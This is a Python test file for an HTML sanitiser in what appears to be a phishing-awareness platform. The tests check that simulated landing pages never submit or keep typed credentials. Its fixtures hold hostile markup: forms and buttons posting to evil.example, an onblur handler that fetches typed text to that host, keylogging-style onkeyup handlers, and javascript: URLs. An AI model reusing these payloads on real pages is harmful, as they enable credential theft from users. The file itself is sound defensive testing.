"""Landing pages submit an event, never a payload.

The sanitiser's output is read back with an HTML5 parser (tinyhtml5, the one WeasyPrint uses,
which follows the browsers' parsing algorithm): whatever hostile markup went in — odd casing,
unquoted attributes, nested forms, ``form=`` pointing elsewhere, ``formaction``, inputs outside
forms, ``contenteditable``, script handlers — no form control has a name (so a browser has
nothing to put in a submission) and no form or button posts anywhere but the event endpoint.
Then a request carrying typed values anyway is shown to leave nothing: no row, no log line.
"""

from __future__ import annotations

import json
import logging

import pytest
from django.db import connection
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from carbet.engines.awareness import landing

tinyhtml5 = pytest.importorskip("tinyhtml5")

ENDPOINT = "/s/EVENT-TOKEN/submit"
XHTML = "{http://www.w3.org/1999/xhtml}"
CONTROLS = {"input", "select", "textarea", "button", "output", "object", "fieldset", "keygen"}
NEVER = {
    "name", "form", "formaction", "formmethod", "formenctype", "formtarget", "formnovalidate",
    "contenteditable", "dirname", "style", "srcdoc", "target", "enctype",
}  # fmt: skip
FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _elements(html: str):
    """Every element of ``html`` as a browser would build it: (local tag name, attributes)."""
    root = tinyhtml5.parse(html)
    for element in root.iter():
        if isinstance(element.tag, str):
            yield (
                element.tag.removeprefix(XHTML).lower(),
                {k.lower(): v for k, v in element.attrib.items()},
            )


def assert_event_only(html: str) -> None:
    """What a browser would submit from ``html``: nothing, and only to the event endpoint."""
    for tag, attrs in _elements(html):
        forbidden = (NEVER | {a for a in attrs if a.startswith("on")}) & set(attrs)
        assert not forbidden, (tag, attrs)
        if tag in CONTROLS:
            assert "name" not in attrs, (tag, attrs)
            if tag == "input":
                assert attrs.get("type") != "image", attrs  # would send x/y without a name
                if attrs.get("type") not in ("submit", "button", "reset"):
                    assert "value" not in attrs, attrs
        if tag == "form":
            assert attrs.get("action") == ENDPOINT and attrs.get("method") == "post", attrs
        else:
            assert "action" not in attrs, (tag, attrs)
        for key in ("href", "src", "data", "poster", "srcset", "background"):
            url = attrs.get(key, "").strip()
            # Same-site relative targets only: no scheme, no protocol-relative host.
            assert not url.startswith(("//", "\\")) and ":" not in url.split("/")[0], attrs


HOSTILE_PAGES = [
    # Odd casing and attributes without quotes.
    "<FoRm ACTION=https://evil.example/c METHOD=get><InPuT NaMe=login VALUE=x>"
    "<INPUT TYPE=PassWord NAME=pw><BUTTON NAME=go VALUE=1>OK</BUTTON></FORM>",
    # Nested forms: the browser keeps the outer one; both point to the endpoint anyway.
    "<form action=/a><form action=//evil.example/b><input name=inner></form>"
    "<input name=outer></form>",
    # A control outside any form, tied to a form elsewhere by its form= attribute.
    "<form id=f action=/ok></form><input form=f name=card><textarea form=f name=t>x</textarea>"
    "<select form=f name=s><option value=1 selected>1</option></select>",
    # formaction/formmethod on buttons and submit inputs.
    "<form><button formaction=https://evil.example/ formmethod=get>go</button>"
    "<input type=submit formaction='//evil.example' name=s value=Envoyer>"
    "<input type=image src=/x.png name=img></form>",
    # contenteditable and script handlers.
    "<div contenteditable=true onblur=\"fetch('//evil.example?'+this.innerText)\">tapez</div>"
    "<form onsubmit='steal()'><input onkeyup=send(this.value) name=k autofocus></form>",
    # Attributes written in every quoting style, duplicated, and without a value.
    "<form><input name='a' name=\"b\" name=c value='v' value=w type=text type=password>"
    "<input name disabled><textarea name></textarea></form>",
    # Inputs of every type, including hidden ones and files.
    "<form>"
    + "".join(
        f"<input type={kind} name=f-{kind} value=v>"
        for kind in ("hidden", "file", "checkbox", "radio", "email", "tel", "search", "x-unknown")
    )
    + "</form>",
    # Markup the stdlib parser and a browser might read differently.
    "<form><input/name=slash><input\tname=tab><input\nname=newline>"
    "<input name=a/><!-- <input name=comment> --><![CDATA[<input name=cdata>]]></form>",
    "<table><form><tr><td><input name=in-table></td></tr></form></table>",
    "<textarea><input name=in-textarea></textarea><title><input name=t></title>",
    "<noscript><form action=//evil.example><input name=ns></form></noscript>"
    "<template><input name=tpl></template><svg><foreignObject><input name=svg>"
    "</foreignObject></svg><math><mi><input name=math></mi></math>",
    '<isindex name=q action="//evil.example"><keygen name=k><output name=o>1</output>'
    "<object name=o data=//evil.example></object><fieldset name=fs></fieldset>",
]


@pytest.mark.parametrize("hostile", HOSTILE_PAGES)
def test_hostile_pages_come_out_event_only(hostile):
    page = landing.sanitize(hostile, ENDPOINT)
    assert_event_only(page.html)
    assert "evil" not in page.html


def test_fields_keep_their_labels_and_secrets_stay_masked():
    page = landing.sanitize(
        "<form><label for=u>Identifiant</label><input id=u name=identifiant>"
        "<label for=p>Mot de passe</label><input id=p name=mot_de_passe>"
        "<input type=submit value=Connexion></form>",
        ENDPOINT,
    )
    elements = dict((attrs.get("id"), attrs) for tag, attrs in _elements(page.html) if attrs)
    assert elements["u"]["type"] == "text"
    assert elements["p"]["type"] == "password" and elements["p"]["autocomplete"] == "off"
    assert 'value="Connexion"' in page.html  # a button's label stays
    assert page.stripped_names == 2


def test_sanitising_twice_changes_nothing():
    """The public page sanitises the stored (already sanitised) page again on the way out."""
    for hostile in HOSTILE_PAGES:
        once = landing.sanitize(hostile, ENDPOINT).html
        assert landing.sanitize(once, ENDPOINT).html == once


def _cased(word: str):
    return st.lists(st.booleans(), min_size=len(word), max_size=len(word)).map(
        lambda flags: "".join(c.upper() if f else c for c, f in zip(word, flags, strict=True))
    )


TAG = st.sampled_from(
    ["form", "input", "select", "textarea", "button", "option", "div", "a", "img", "label",
     "fieldset", "p", "span", "table", "td", "keygen", "output", "object", "script", "svg",
     "template", "noscript", "isindex", "iframe", "title", "style"]
).flatmap(_cased)  # fmt: skip
ATTR = st.sampled_from(
    ["name", "value", "form", "formaction", "formmethod", "action", "method", "type", "id",
     "contenteditable", "onclick", "onsubmit", "onfocus", "style", "href", "src", "dirname",
     "autofocus", "for", "enctype", "target", "srcdoc"]
).flatmap(_cased)  # fmt: skip
VALUE = st.sampled_from(
    ["pw", "password", "PASSWORD", "image", "file", "submit", "hidden", "text", "f",
     "https://evil.example/x", "//evil.example", "javascript:alert(1)", "/ok", "#", "",
     "x y", "a'b", 'a"b', "a>b", "&quot;", "true"]
)  # fmt: skip


def _attribute(name: str, value: str, quoting: str) -> str:
    if quoting == "bare":
        return name
    if quoting == "none" and value and not any(c in value for c in " '\"<>=`"):
        return f"{name}={value}"
    if quoting == "single" and "'" not in value:
        return f"{name}='{value}'"
    return f'{name}="{value.replace(chr(34), "&quot;")}"'


PIECE = st.one_of(
    st.tuples(
        TAG,
        st.lists(
            st.tuples(ATTR, VALUE, st.sampled_from(["double", "single", "none", "bare"])),
            max_size=5,
        ),
        st.sampled_from(["open", "close", "self", "pair"]),
    ).map(
        lambda t: {
            "open": f"<{t[0]} {' '.join(_attribute(*a) for a in t[1])}>",
            "close": f"</{t[0]}>",
            "self": f"<{t[0]} {' '.join(_attribute(*a) for a in t[1])}/>",
            "pair": f"<{t[0]} {' '.join(_attribute(*a) for a in t[1])}>x</{t[0]}>",
        }[t[2]]
    ),
    st.text(alphabet="<>/=\"' abc&;!-[]", max_size=12),
)


@FUZZ
@given(st.lists(PIECE, max_size=40))
def test_generated_hostile_markup_never_yields_a_payload(pieces):
    html = "".join(pieces)
    page = landing.sanitize(html, ENDPOINT)
    assert_event_only(page.html)


# --- the endpoint: whatever is posted, nothing is read, stored or logged ---------------------


def _every_row_as_text() -> str:
    chunks = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")
            chunks.extend(repr(row) for row in cursor.fetchall())
    return "\n".join(chunks)


@pytest.mark.realserver
def test_typed_values_posted_anyway_leave_no_trace(region, smtp, caplog):
    """A hand-made request (or an old page) posts typed values: the submission is recorded as
    an event, the body is never parsed, and no table or log line holds any of it."""
    from carbet.awareness.models import Recipient
    from carbet.engines.awareness import tokens
    from tests.awareness.helpers import sent_campaign

    caplog.set_level(logging.DEBUG)
    _campaign, sent = sent_campaign(region, smtp, 1)
    token = next(iter(sent.values()))
    secret, login = "Typed-Secret-7f3c91", "login-typed-4b2e"
    client = Client(HTTP_USER_AGENT="Mozilla/5.0 Firefox/128.0")
    bodies = [
        {"data": {"identifiant": login, "password": secret}},  # multipart
        {
            "data": f"identifiant={login}&password={secret}",
            "content_type": "application/x-www-form-urlencoded",
        },
        {
            "data": json.dumps({"password": secret, "identifiant": login}),
            "content_type": "application/json",
        },
        {"data": f"password={secret}&" + "x" * 3_000_000, "content_type": "text/plain"},
    ]
    for body in bodies:
        response = client.post(f"/s/{token}/submit", **body)
        assert response.status_code == 302 and response["Location"] == f"/s/{token}/debrief"
        request = response.wsgi_request
        # Neither the form parser nor the raw body was ever touched by Carbet's code.
        assert not hasattr(request, "_post") and not hasattr(request, "_body")
    recipient = Recipient.objects.get(token_digest=tokens.digest(token))
    assert recipient.submitted_at is not None
    assert secret not in _every_row_as_text() and login not in _every_row_as_text()
    assert secret not in caplog.text and login not in caplog.text
    # And an unknown token does not read the body either.
    response = client.post(f"/s/{tokens.new_token()}/submit", {"password": secret})
    assert response.status_code == 404 and not hasattr(response.wsgi_request, "_post")
    assert secret not in caplog.text


@pytest.mark.realserver
def test_the_public_page_is_event_only_even_if_the_stored_page_was_not(region, smtp):
    """A page stored before this rule (names kept) is sanitised again when it is served."""
    from carbet.awareness.models import LandingPage
    from tests.awareness.helpers import sent_campaign

    _campaign, sent = sent_campaign(region, smtp, 1)
    token = next(iter(sent.values()))
    LandingPage.objects.update(
        html='<form action="#"><input name="identifiant"><input type="password" name="pw">'
        '<button formaction="https://evil.example/">OK</button></form>'
    )
    client = Client(HTTP_USER_AGENT="Mozilla/5.0 Firefox/128.0")
    client.get(f"/s/{token}/c")
    body = client.get(f"/s/{token}/p").content.decode()
    start, end = body.index('<div class="aw-landing">'), body.index("</main>")
    landing_html = body[start:end].replace(f"/s/{token}/submit", ENDPOINT)
    assert_event_only(landing_html)
    assert f'action="/s/{token}/submit"' in body and "evil" not in body


@pytest.mark.parametrize(
    "html",
    ["<![;", "<![", "<p>a<![CDATA[<script>alert(1)</script>]]>b</p>", "<![if !IE]><form>"],
)
def test_marked_sections_are_dropped_like_a_browser_does_never_a_crash(html):
    """Python 3.12's parser asserts on a malformed ``<![`` (found by the property test): the
    sanitiser drops marked sections as bogus comments, as a browser reads them in HTML."""
    page = landing.sanitize(html, ENDPOINT)
    assert "<![" in page.removed
    assert_event_only(page.html)
    assert "<script" not in page.html


@FUZZ
@given(st.text(alphabet=st.sampled_from(list("<>![]-/?=\"' abcCDATA;&#x0")), max_size=80))
def test_any_markup_like_text_is_rebuilt_without_an_exception(html):
    page = landing.sanitize(html, ENDPOINT)
    assert_event_only(page.html)
